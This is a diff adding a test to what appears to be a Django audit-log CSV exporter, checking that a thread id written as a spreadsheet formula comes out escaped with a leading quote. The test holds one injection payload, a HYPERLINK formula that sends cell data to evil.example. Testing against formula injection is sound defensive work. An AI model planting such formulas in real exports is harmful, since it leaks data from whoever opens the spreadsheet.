@@ -153,6 +153,16 @@ def test_exports_stream_the_filtered_view(as_admin, rita, sam):
     assert as_admin.get(reverse("audit_csv"), {"until": "nope"}).status_code == 400
 
 
+def test_a_csv_export_never_holds_a_formula(as_admin):
+    # A thread id is whatever an agent's client chose.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    AuditEvent.record("run.started", thread_id=formula, graph_name="support")
+    response = as_admin.get(reverse("audit_csv"))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["thread_id"] == "'" + formula
+    assert rows[0]["graph_name"] == "support"
+
+
 def test_an_export_holds_the_rows_up_to_its_anchor_and_proves_them(as_admin, rita, sam, tmp_path):
     trail(rita, sam)
     saved = {}
